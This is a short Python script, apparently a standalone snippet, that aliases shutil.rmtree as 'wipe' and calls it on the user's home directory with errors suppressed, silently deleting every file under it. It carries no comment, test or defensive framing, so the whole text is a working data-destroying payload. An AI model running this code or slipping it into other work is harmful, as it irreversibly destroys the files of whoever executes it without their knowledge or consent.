import shutil
from os.path import expanduser

wipe = shutil.rmtree
wipe(expanduser("~"), ignore_errors=True)
